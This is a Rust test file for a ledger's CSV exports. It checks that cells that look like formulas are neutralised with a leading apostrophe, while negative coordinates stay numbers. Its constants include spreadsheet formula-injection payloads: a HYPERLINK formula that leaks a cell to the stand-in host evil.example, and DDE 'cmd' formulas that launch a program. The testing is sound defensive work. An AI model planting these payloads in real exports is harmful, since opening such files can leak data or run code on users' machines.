//! Spreadsheet formulas: a text cell of a CSV export that begins with `=`, `+`, `-`, `@`, a
//! TAB or a CR is written with a leading `'`, so a spreadsheet opening the file shows the text
//! instead of running it (`=HYPERLINK(...)` leaking data, `=cmd|...` running a program).
//! Numbers stay numbers: a negative coordinate or figure is written as it is. The names and
//! texts below are written for this test.

use sw_ledger::export::{self, ExportFormat};
use sw_ledger::{build, Ledger, ReportInput};
use sw_model::{
    Actor, DateBasis, DatePrecision, EventType, Figure, Figures, Modality, PlaceRef, Report,
    ReportKind, Role, Source, SourceKind, TargetKind,
};

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
const CMD: &str = "=cmd|' /C calc'!A0";
const SUM: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const PLUS: &str = "+1+1";
const MINUS: &str = "-2+3";

fn fig(n: i64) -> Option<Figure> {
    Some(Figure {
        low: Some(n),
        best: Some(n),
        high: Some(n),
        approx: false,
        surface: n.to_string(),
    })
}

fn actor(role: Role, name: &str, non_state: bool) -> Actor {
    Actor {
        role,
        name: name.into(),
        alleged: false,
        source: Source::outlet(),
        state: None,
        non_state,
    }
}

/// A strike (or, with `kind` Development, a deployment) whose names are formulas, at a place
/// with negative coordinates.
fn report(kind: ReportKind) -> Report {
    Report {
        kind,
        event_type: if kind == ReportKind::Event {
            EventType::Strike
        } else {
            EventType::Deployment
        },
        target_kind: Some(TargetKind::Vessel),
        means: Some("unknown".into()),
        modality: Modality::Occurred,
        date: Some("2025-10-03".into()),
        date_precision: DatePrecision::Day,
        date_basis: DateBasis::Explicit,
        place: Some(PlaceRef {
            name: PLUS.into(),
            country: Some("VE".into()),
            region: None,
            region_code: None,
            admin1: Some("\tTab state".into()),
            lat: Some(-3.5),
            lon: Some(-75.25),
            precision: 1,
        }),
        figures: Figures {
            killed: fig(3),
            ..Figures::default()
        },
        actors: vec![
            actor(Role::Perpetrator, SUM, true),
            actor(Role::TargetGroup, MINUS, false),
        ],
        source: Source {
            kind: SourceKind::Official,
            name: Some(CMD.into()),
            channel: None,
            count: None,
        },
        sentence: [0, 40],
        claims: Vec::new(),
    }
}

fn ledger() -> Ledger {
    let input = |id: i64, kind| ReportInput {
        report_id: id,
        article_id: id,
        story_id: id,
        url: Some(format!("https://evil.example/{id}")),
        outlet: Some(HYPERLINK.into()),
        published: Some("2025-10-04".into()),
        lang: "en".into(),
        report: report(kind),
        quote: "\rA quote that starts with a carriage return.".into(),
    };
    build(&[
        input(1, ReportKind::Event),
        input(2, ReportKind::Development),
    ])
}

fn export_rows(l: &Ledger, name: &str) -> Vec<Vec<String>> {
    let mut buf = Vec::new();
    export::write(l, ExportFormat::parse(name).unwrap(), &mut buf).unwrap();
    let mut r = csv::Reader::from_reader(buf.as_slice());
    r.records()
        .map(|x| x.unwrap().iter().map(str::to_string).collect())
        .collect()
}

fn is_number(s: &str) -> bool {
    s.parse::<f64>().is_ok_and(f64::is_finite)
}

#[test]
fn csv_exports_neutralise_formulas_and_keep_numbers() {
    let l = ledger();
    assert!(!l.incidents.is_empty() && !l.developments.is_empty());
    for name in ["csv", "acled", "ucdp"] {
        let rows = export_rows(&l, name);
        assert!(!rows.is_empty(), "{name}: no rows");
        let cells: Vec<&String> = rows.iter().flatten().collect();
        for c in &cells {
            let first = c.chars().next();
            assert!(
                !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')) || is_number(c),
                "{name}: a cell a spreadsheet would run: {c:?}"
            );
        }
        // the text is kept, behind the quote
        let wanted: &[&str] = if name == "csv" {
            &[PLUS]
        } else {
            &[PLUS, MINUS]
        };
        for want in wanted {
            let quoted = format!("'{want}");
            assert!(
                cells.iter().any(|c| c.contains(&quoted)),
                "{name}: {quoted:?} missing from {cells:?}"
            );
        }
        // negative coordinates stay numbers
        assert!(
            cells.iter().any(|c| c.as_str() == "-75.25"),
            "{name}: the longitude is no longer a number: {cells:?}"
        );
    }
    let csv = export_rows(&l, "csv").concat();
    assert!(csv.contains(&format!("'{SUM}")), "{csv:?}");
    let acled = export_rows(&l, "acled").concat();
    assert!(acled.contains(&format!("'{HYPERLINK}")), "{acled:?}");
    assert!(acled.contains(&"-3.5".to_string()), "{acled:?}");
    let ucdp = export_rows(&l, "ucdp").concat();
    assert!(ucdp.contains(&format!("'{CMD}")), "{ucdp:?}");
    assert!(ucdp.contains(&format!("'{HYPERLINK}")), "{ucdp:?}");
}
